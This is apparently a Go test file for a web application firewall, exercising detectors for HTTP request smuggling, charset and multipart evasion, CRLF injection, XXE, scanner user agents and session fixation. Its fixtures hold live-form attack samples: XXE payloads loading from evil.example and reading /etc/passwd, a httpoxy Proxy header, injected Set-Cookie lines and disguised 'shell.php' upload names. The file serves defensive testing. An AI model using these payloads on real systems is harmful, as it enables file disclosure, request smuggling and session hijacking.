package detect

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

// protoReq builds a request for the protocol checks: method, proto, content type, body
// and headers (Host is set unless a test clears it).
func protoReq(method, proto, ct, body string, headers ...string) *request.Request {
	r := &request.Request{Method: method, URI: "/", Path: "/", Proto: proto, Host: "shop.example.com",
		ContentType: ct, UserAgent: "Mozilla/5.0"}
	if body != "" {
		r.Body = []byte(body)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Headers = append(r.Headers, request.Header{Name: headers[i], Value: headers[i+1]})
	}
	return r
}

const mpCT = "multipart/form-data; boundary=----WebKitFormBoundaryX"

func mpBody(partHeaders string) string {
	return "------WebKitFormBoundaryX\r\n" + partHeaders + "\r\n\r\nvalue\r\n------WebKitFormBoundaryX--\r\n"
}

func TestProtocol(t *testing.T) {
	tests := []struct {
		name string
		r    *request.Request
		want string // the attack signal expected, "" for none
	}{
		// BHH
		{"cl and obfuscated te", protoReq("POST", "HTTP/1.1", "", "a=b", "Content-Length", "3", "Transfer-Encoding", " chunked, x"), BHH},
		{"te obfuscated", protoReq("POST", "HTTP/1.1", "", "", "Transfer-Encoding", "xchunked"), BHH},
		{"te list", protoReq("POST", "HTTP/1.1", "", "", "Transfer-Encoding", "chunked, identity"), BHH},
		{"two te", protoReq("POST", "HTTP/1.1", "", "", "Transfer-Encoding", "chunked", "Transfer-Encoding", "chunked"), BHH},
		{"te on get", protoReq("GET", "HTTP/1.1", "", "", "Transfer-Encoding", "chunked"), BHH},
		{"head with body", protoReq("HEAD", "HTTP/1.1", "application/x-www-form-urlencoded", "a=b"), BHH},
		{"te on http/1.0", protoReq("POST", "HTTP/1.0", "", "", "Transfer-Encoding", "chunked"), BHH},
		{"bad content-length", protoReq("POST", "HTTP/1.1", "", "", "Content-Length", "3, 4"), BHH},
		{"two content-length", protoReq("POST", "HTTP/1.1", "", "", "Content-Length", "3", "Content-Length", "4"), BHH},
		{"header name with space", protoReq("GET", "HTTP/1.1", "", "", "Transfer-Encoding ", "chunked"), BHH},
		{"httpoxy", protoReq("GET", "HTTP/1.1", "", "", "Proxy", "http://attacker.example:8080"), BHH},
		{"next middleware", protoReq("GET", "HTTP/1.1", "", "", "X-Middleware-Subrequest", "middleware"), BHH},
		{"connection strips xff", protoReq("GET", "HTTP/1.1", "", "", "Connection", "close, X-Forwarded-For"), BHH},
		// INVALID-HTTP
		{"method punctuation", protoReq("|GET", "HTTP/1.1", "", ""), INVALIDHTTP},
		{"method with slash", protoReq("GET/", "HTTP/1.1", "", ""), INVALIDHTTP},
		{"version 4.0", protoReq("GET", "HTTP/4.0", "", ""), INVALIDHTTP},
		{"boundary media type", protoReq("POST", "HTTP/1.1", `application/x-www-form-urlencoded;boundary="application/json"`, ""), INVALIDHTTP},
		{"boundary holding charset", protoReq("POST", "HTTP/1.1", `application/x-www-form-urlencoded; charset=utf-8; boundary="charset=utf-7"`, "a=b"), INVALIDHTTP},
		{"two charsets", protoReq("POST", "HTTP/1.1", "application/x-www-form-urlencoded; charset=utf-8; charset=utf-7", "a=b"), INVALIDHTTP},
		{"utf-7 body", protoReq("POST", "HTTP/1.1", "application/x-www-form-urlencoded; charset=utf-7", "a=+ADw-script+AD4-"), INVALIDHTTP},
		{"ebcdic body", protoReq("POST", "HTTP/1.1", "application/x-www-form-urlencoded;charset=ibm037", "%89%95=%A7"), INVALIDHTTP},
		{"unknown charset body", protoReq("POST", "HTTP/1.1", "application/json; charset=utf-80", "{}"), INVALIDHTTP},
		{"accept ebcdic", protoReq("GET", "HTTP/1.1", "", "", "Accept", "text/html; charset=cp1026"), INVALIDHTTP},
		{"request-range", protoReq("GET", "HTTP/1.1", "", "", "Request-Range", "bytes=0-100"), INVALIDHTTP},
		{"overlapping ranges", protoReq("GET", "HTTP/1.1", "", "", "Range", "bytes=0-,5-10,5-11"), INVALIDHTTP},
		{"cookie quoted semicolon", protoReq("GET", "HTTP/1.1", "", "", "Cookie", `$Version=1; s="x; PHPSESSID=y"`), INVALIDHTTP},
		{"part header ctl", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition\x0e: form-data; name=\"a\"")), INVALIDHTTP},
		{"part header space", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content- Disposition: form-data; name=\"a\"")), INVALIDHTTP},
		{"two dispositions", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"a\"; filename=\"a.php\"\r\nContent-Disposition: form-data; name=\"b\"")), INVALIDHTTP},
		{"two filenames", protoReq("POST", "HTTP/1.1", mpCT, mpBody(`Content-Disposition: form-data; name="f"; filename="a.jpg"; filename="a.php"`)), INVALIDHTTP},
		{"escaped quote", protoReq("POST", "HTTP/1.1", mpCT, mpBody(`Content-Disposition: form-data; name="f"; filename="a\".php"`)), INVALIDHTTP},
		{"field name semicolon", protoReq("POST", "HTTP/1.1", mpCT, mpBody(`Content-Disposition: form-data; name="fi;le"`)), INVALIDHTTP},
		{"field name equals", protoReq("POST", "HTTP/1.1", mpCT, mpBody(`Content-Disposition: form-data; name="a=b"`)), INVALIDHTTP},
		{"part utf-7", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset = utf-7")), INVALIDHTTP},
		{"part base64", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64")), INVALIDHTTP},
		// benign
		{"browser get", protoReq("GET", "HTTP/1.1", "", "", "Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "Connection", "keep-alive"), ""},
		{"http2", protoReq("GET", "HTTP/2.0", "", ""), ""},
		{"delete", protoReq("DELETE", "HTTP/1.1", "", ""), ""},
		{"custom method", protoReq("M-SEARCH", "HTTP/1.1", "", ""), ""},
		{"long unknown method", protoReq("REALLYLONGUNREALMETHOD", "HTTP/1.1", "", ""), ""},
		{"very long method", protoReq("ANEXTENSIONMETHODWITHAVERYLONGNAMEINDEED", "HTTP/1.1", "", ""), ""},
		{"lower-case method", protoReq("get", "HTTP/1.1", "", ""), ""},
		{"chunked post", protoReq("POST", "HTTP/1.1", "application/json", "{}", "Transfer-Encoding", "chunked"), ""},
		{"json get body", protoReq("GET", "HTTP/1.1", "application/json", `{"query":{"match_all":{}}}`, "Content-Length", "26"), ""},
		{"form charset", protoReq("POST", "HTTP/1.1", "application/x-www-form-urlencoded; charset=UTF-8", "a=b"), ""},
		{"gbk json", protoReq("POST", "HTTP/1.1", "application/json;charset=gbk", "{}"), ""},
		{"quoted charset", protoReq("POST", "HTTP/1.1", `text/plain; charset="iso-8859-15"`, "x"), ""},
		{"repeated type", protoReq("POST", "HTTP/1.1", "application/json, application/json", "{}"), ""},
		{"trailing semicolon", protoReq("POST", "HTTP/1.1", "application/json;", "{}"), ""},
		{"soap mtom", protoReq("POST", "HTTP/1.1", `multipart/related; type="application/xop+xml"; start-info="application/soap+xml"; boundary=abc`, ""), ""},
		{"weird charset no body", protoReq("GET", "HTTP/1.1", "text/plain; charset=/gar/bage", ""), ""},
		{"odd boundary", protoReq("POST", "HTTP/1.1", "multipart/mixed; boundary= gc0p4Jq0M2Yt,08/jU534c0p?==:test", ""), ""},
		{"range", protoReq("GET", "HTTP/1.1", "", "", "Range", "bytes=0-1023"), ""},
		{"invalid range is an anomaly", protoReq("GET", "HTTP/1.1", "", "", "Range", "bytes=10-11, 110-11, 20-21"), ""},
		{"connection upgrade", protoReq("GET", "HTTP/1.1", "", "", "Connection", "keep-alive, Upgrade", "Upgrade", "websocket"), ""},
		{"connection te", protoReq("GET", "HTTP/1.1", "", "", "Connection", "TE", "TE", "trailers"), ""},
		{"cookie quotes", protoReq("GET", "HTTP/1.1", "", "", "Cookie", `a="b c"; d=e`), ""},
		{"ip host", protoReq("GET", "HTTP/1.1", "", "", "X-Forwarded-For", "10.0.0.1"), ""},
		{"multipart upload", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"file\"; filename=\"Tom's report; v2=final.pdf\"\r\nContent-Type: application/pdf")), ""},
		{"multipart entity name", protoReq("POST", "HTTP/1.1", mpCT, mpBody(`Content-Disposition: form-data; name="caf&eacute;&#233;"`)), ""},
		{"multipart shift_jis", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=Shift_JIS")), ""},
		{"multipart binary cte", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content-Disposition: form-data; name=\"a\"; filename=\"x.bin\"\r\nContent-Transfer-Encoding: binary")), ""},
		{"multipart token header", protoReq("POST", "HTTP/1.1", mpCT, mpBody("Content~Disposition: form-data; name=\"a\"")), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkProtocol(tt.r)
			for _, s := range tt.r.Signals {
				if IsAttack(s.Name) && s.Name != tt.want {
					t.Errorf("unexpected %s: %+v", s.Name, tt.r.Signals)
				}
			}
			if tt.want != "" && !tt.r.HasSignal(tt.want) {
				t.Errorf("missing %s: %+v", tt.want, tt.r.Signals)
			}
		})
	}
}

func TestProtocolAnomalies(t *testing.T) {
	tests := []struct {
		name string
		r    *request.Request
	}{
		{"unknown method", protoReq("FOO", "HTTP/1.1", "", "")},
		{"get with body", protoReq("GET", "HTTP/1.1", "application/x-www-form-urlencoded", "a=b")},
		{"ip host", &request.Request{Method: "GET", URI: "/", Proto: "HTTP/1.1", Host: "203.0.113.7:8080"}},
		{"no host", &request.Request{Method: "GET", URI: "/", Proto: "HTTP/1.0"}},
		{"many ranges", protoReq("GET", "HTTP/1.1", "", "", "Range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12")},
		{"content-type syntax", protoReq("POST", "HTTP/1.1", "json", "{}")},
		{"cl and te", protoReq("POST", "HTTP/1.1", "", "a=b", "Content-Length", "3", "Transfer-Encoding", "chunked")},
		{"connection names a header", protoReq("GET", "HTTP/1.1", "", "", "Connection", "User-Agent")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkProtocol(tt.r)
			if !tt.r.HasSignal(HTTPANOMALY) {
				t.Errorf("no %s: %+v", HTTPANOMALY, tt.r.Signals)
			}
			for _, s := range tt.r.Signals {
				if IsAttack(s.Name) {
					t.Errorf("attack signal %s on an anomaly", s.Name)
				}
			}
		})
	}
}

// BenchmarkRequestChecks runs the request-wide checks of this family (protocol,
// scanner, session fixation, private files) on a browser's GET.
func BenchmarkRequestChecks(b *testing.B) {
	r := protoReq("GET", "HTTP/1.1", "", "",
		"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language", "en-GB,en;q=0.9", "Connection", "keep-alive",
		"Referer", "https://shop.example.com/catalog?page=2",
		"Cookie", "session=3f9a1c0e7b2d4a6f8e1c3b5a7d9f0e2c; theme=dark")
	r.URI, r.Path = "/search?q=running+shoes&size=42", "/search"
	r.UserAgent = r.Headers[0].Value
	r.Params = []request.Param{{Source: request.SourceQuery, Name: "q", Value: "running shoes"}, {Source: request.SourceQuery, Name: "size", Value: "42"}}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.Signals = r.Signals[:0]
		checkProtocol(r)
		checkScanner(r)
		checkSessionFixation(r)
		checkPrivateFile(r)
	}
}

// BenchmarkValueChecks runs the CRLF and XXE value checks on short benign values.
func BenchmarkValueChecks(b *testing.B) {
	vals := []string{"running shoes", "42", "https://shop.example.com/catalog?page=2", "Jane O'Neil <jane@example.org>", "3f9a1c0e7b2d4a6f8e1c3b5a7d9f0e2c"}
	p := &request.Param{Source: request.SourceQuery, Name: "q"}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for _, v := range vals {
			matchCRLF(p, v)
			matchXXE(p, v)
		}
	}
}

func TestHiddenScriptExt(t *testing.T) {
	for name, want := range map[string]bool{
		"shell.php%00.png": true, "shell.php\x00.jpg": true, "shell.asp;.jpg": true, "shell.php .jpg": true,
		"shell.php..jpg": true, "shell.php.": true, "shell.aspx::$DATA": true, "shell.php5;.gif": true,
		"photo.jpg": false, "shell.php": false, "photo.php.jpg": false, "notes.phpdoc.txt": false,
		"report; final.pdf": false, "my.photos .zip": false, "a.jspx": false, "Tom's CV.docx": false,
	} {
		if got := hiddenScriptExt(name); got != want {
			t.Errorf("hiddenScriptExt(%q) = %v, want %v", name, got, want)
		}
	}
}

// crlfInjections are the lines CRLF finds after a line break in any value: a smuggled
// request line, a status line, and the headers whose injection is the point of the
// attack (crlf.go).
var crlfInjections = []string{
	"Set-Cookie: sid=attacker", "Content-Length: 0", "Transfer-Encoding: chunked", "GET /admin HTTP/1.1",
	"HTTP/1.1 200 OK", "X-Forwarded-For: 127.0.0.1", "Access-Control-Allow-Origin: *",
}

// xxeDocs are XXE payloads (xxe.go): a parameter entity, an internal subset declaring an
// external entity, an external DTD, an XInclude.
var xxeDocs = []string{
	`<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
	`<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`,
	`<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>`,
	`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>`,
}

// crlfOrder lists the sources from the least to the most strictly judged by CRLF: a text
// field (JSON, form, multipart, XML, message) takes a header line as text; a query value
// belongs on one line, so the headers an open redirect wants count too; a cookie is a
// header, where any header line counts; in a path segment any line break does.
var crlfOrder = [][]request.Source{
	{request.SourceJSON, request.SourceForm, request.SourceMultipart, request.SourceXML, request.SourceBody, request.SourceMessage},
	{request.SourceQuery},
	{request.SourceCookie},
	{request.SourcePath},
}

// scannerWord is the rule of scanner.go written as a regular expression: one of
// scannerAgents, without regard to case, with no ASCII letter right before or after it,
// or the whole User-Agent one of scannerWholeAgents, with spaces or tabs around.
var scannerWord = func() *regexp.Regexp {
	names := make([]string, len(scannerAgents))
	for i, a := range scannerAgents {
		names[i] = regexp.QuoteMeta(a)
	}
	whole := make([]string, len(scannerWholeAgents))
	for i, a := range scannerWholeAgents {
		whole[i] = regexp.QuoteMeta(a)
	}
	return regexp.MustCompile(`(?i)(?:^|[^a-z])(?:` + strings.Join(names, "|") + `)(?:$|[^a-z])|^[ \t]*(?:` + strings.Join(whole, "|") + `)[ \t]*$`)
}()

// protocolSignals runs the request checks of the protocol families on r and returns
// their signals.
func protocolSignals(r *request.Request) []request.Signal {
	checkProtocol(r)
	checkSessionFixation(r)
	checkPrivateFile(r)
	checkScanner(r)
	return r.Signals
}

func hasName(signals []request.Signal, name string) bool {
	return slices.ContainsFunc(signals, func(s request.Signal) bool { return s.Name == name })
}

// FuzzProtocol checks the request-wide checks (BHH, INVALID-HTTP, SCANNER,
// SESSION-FIXATION) and the CRLF and XXE value checks, whatever the method, headers,
// content type and body:
//
//   - protocol: the checks are deterministic and judge each header on its own: a request
//     gets the same signals twice, and the same with a browser's Accept-Language added;
//     a Proxy header (httpoxy) or a method that is not a token name ("|GET") always
//     adds BHH or INVALID-HTTP, whatever else the request holds (a Request without a
//     method is no HTTP request and is not judged);
//   - SCANNER: raised exactly when the User-Agent names a tool of scannerAgents as a
//     word or is one of scannerWholeAgents, the rule of scanner.go written as a regular
//     expression (the request has no parameters, and a Host of its own); a tool's name after
//     benign text always is one;
//   - SESSION-FIXATION: a session cookie name sent as a query parameter with a value is
//     found without a Referer and not with a Referer on the request's own host;
//   - CRLF: a text field is judged least strictly and a path segment most (crlfOrder):
//     a value matched in one source matches in every stricter one; a header line of
//     crlfInjections after a line break is found in every source but a header (which
//     cannot hold a raw line break), whatever benign text comes around it; benign text
//     over several lines (no ':' or '/') matches only in a path segment;
//   - XXE: judged alike in every source but an XML body (whose names are read too);
//     a payload of xxeDocs is found whatever comes before and after it (every '<' is
//     looked at); a value without '<' never matches;
//   - fragments are non-empty and part of the value.
func FuzzProtocol(f *testing.F) {
	f.Add("GET", "bytes=0-10,5-", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a;b\"; filename=\"x.php%00.png\"\r\n\r\nv\r\n--b--", `a="b; c"`, uint8(0))
	f.Add("|X", "bytes=-", `text/plain; charset="utf-7"; boundary="text/xml"`, "<!DOCTYPE x [<!ENTITY % y SYSTEM \"z\">]>", "\"", uint8(1))
	f.Add("POST", "", "application/x-www-form-urlencoded", "a=%0d%0aSet-Cookie:%20x&b=x\nGET / HTTP/1.1", "=\\\"", uint8(2))
	for n := range 7 {
		f.Add("GET", "", "", "Hello, how are you.\nFine", "sqlmap", uint8(n))
	}
	f.Fuzz(func(t *testing.T, method, rng, ct, body, cookie string, n uint8) {
		build := func() *request.Request {
			r := protoReq(method, "HTTP/1.1", ct, body, "Range", rng, "Cookie", cookie, "Connection", rng,
				"Accept", ct, "Transfer-Encoding", rng, "Content-Length", rng)
			r.URI, r.Path = "/"+rng, "/"+rng
			r.Params = []request.Param{{Source: request.SourceForm, Name: "_charset_", Value: rng},
				{Source: request.SourceQuery, Name: "PHPSESSID", Value: body}}
			return r
		}
		first := protocolSignals(build())
		if again := protocolSignals(build()); !slices.Equal(first, again) {
			t.Fatalf("same request, different signals: %v then %v", first, again)
		}
		lang := build()
		lang.Headers = append(lang.Headers, request.Header{Name: "Accept-Language", Value: "en-US,en;q=0.5"})
		if got := protocolSignals(lang); !slices.Equal(first, got) {
			t.Fatalf("Accept-Language changed the signals: %v, then %v", first, got)
		}
		proxy := build()
		proxy.Headers = append(proxy.Headers, request.Header{Name: "Proxy", Value: "http://evil.example:8080"})
		if got := protocolSignals(proxy); method != "" && !hasName(got, BHH) {
			t.Fatalf("Proxy header without BHH: %v", got)
		}
		bad := build()
		bad.Method = "|" + method
		if got := protocolSignals(bad); !hasName(got, INVALIDHTTP) {
			t.Fatalf("method %q without INVALID-HTTP: %v", bad.Method, got)
		}

		// SCANNER, against its rule as a regular expression.
		for _, ua := range []string{cookie, benignText(body, wordAlphabet, 40) + " " + pick(scannerAgents, n) + "/1.0", "Mozilla/5.0 q" + pick(scannerAgents, n)} {
			r := &request.Request{Method: "GET", URI: "/", Path: "/", Host: "h", UserAgent: ua}
			checkScanner(r)
			got, want := hasName(r.Signals, SCANNER), scannerWord.MatchString(ua)
			if got != want {
				t.Fatalf("User-Agent %q: SCANNER %v, want %v", ua, got, want)
			}
			tool := func(a string) bool { return strings.EqualFold(a, r.Signals[0].Fragment) }
			if got && !slices.ContainsFunc(scannerAgents, tool) && !slices.ContainsFunc(scannerWholeAgents, tool) {
				t.Fatalf("User-Agent %q: SCANNER fragment %q names no tool", ua, r.Signals[0].Fragment)
			}
		}

		// SESSION-FIXATION.
		if body != "" {
			name := pick(sessionNames, n)
			if strings.HasSuffix(name, "*") {
				name = name[:len(name)-1] + "QQGGQGPG"
			}
			for _, ref := range []string{"", "https://shop.example.com/" + benignText(cookie, benignAlphabet, 20)} {
				r := &request.Request{Method: "GET", URI: "/login", Path: "/login", Host: "shop.example.com",
					Params: []request.Param{{Source: request.SourceQuery, Name: strings.ToUpper(name), Value: body}}}
				if ref != "" {
					r.Headers = []request.Header{{Name: "Referer", Value: ref}}
				}
				checkSessionFixation(r)
				if got := hasName(r.Signals, SESSIONFIXATION); got != (ref == "") {
					t.Fatalf("session name %q with Referer %q: SESSION-FIXATION %v", name, ref, got)
				}
			}
		}

		// CRLF and XXE, on the body as a value.
		for _, src := range []request.Source{request.SourceQuery, request.SourceHeader, request.SourceJSON, request.SourceXML, request.SourcePath} {
			p := &request.Param{Source: src, Name: "x", Value: body}
			if frag, ok := matchCRLF(p, body); ok {
				checkFragment(t, CRLF, body, frag)
			}
			if frag, ok := matchXXE(p, body); ok {
				checkFragment(t, XXE, body, frag)
			}
		}
		crlfIn := func(src request.Source, v string) bool {
			_, ok := matchCRLF(&request.Param{Source: src, Name: "x", Value: v}, v)
			return ok
		}
		for _, v := range []string{body, cookie} {
			matched := false
			for _, group := range crlfOrder {
				in := crlfIn(group[0], v)
				for _, src := range group[1:] {
					if crlfIn(src, v) != in {
						t.Fatalf("CRLF on %q: %v as %s, %v as %s", v, in, group[0], !in, src)
					}
				}
				if matched && !in {
					t.Fatalf("CRLF on %q: matched in a laxer source, not as %s", v, group[0])
				}
				matched = matched || in
			}
		}
		breaks := []string{"\r\n", "\n", "\r", "\r\n\r\n"}
		injected := benignText(body, benignAlphabet, 60) + pick(breaks, n/8) + pick(crlfInjections, n)
		if cookie != "" {
			injected += pick(breaks, n/32) + benignText(cookie, benignAlphabet, 60)
		}
		lines := benignText(body+cookie, benignAlphabet+"\r\n", 200)
		for _, group := range crlfOrder {
			if !crlfIn(group[0], injected) {
				t.Fatalf("CRLF missed %q as %s", injected, group[0])
			}
			if group[0] != request.SourcePath && crlfIn(group[0], lines) {
				t.Fatalf("CRLF matched benign lines %q as %s", lines, group[0])
			}
		}

		xxeIn := func(src request.Source, v string) bool {
			_, ok := matchXXE(&request.Param{Source: src, Name: "x", Value: v}, v)
			return ok
		}
		doc := body + pick(xxeDocs, n) + cookie
		for _, v := range []string{body, doc} {
			want := xxeIn(request.SourceQuery, v)
			for _, src := range []request.Source{request.SourceJSON, request.SourceForm, request.SourceHeader, request.SourceCookie, request.SourceMessage} {
				if xxeIn(src, v) != want {
					t.Fatalf("XXE on %q: %v as query, %v as %s", v, want, !want, src)
				}
			}
			if want && !strings.Contains(v, "<") {
				t.Fatalf("XXE matched %q, which has no '<'", v)
			}
		}
		if !xxeIn(request.SourceJSON, doc) {
			t.Fatalf("XXE missed %q", doc)
		}
	})
}
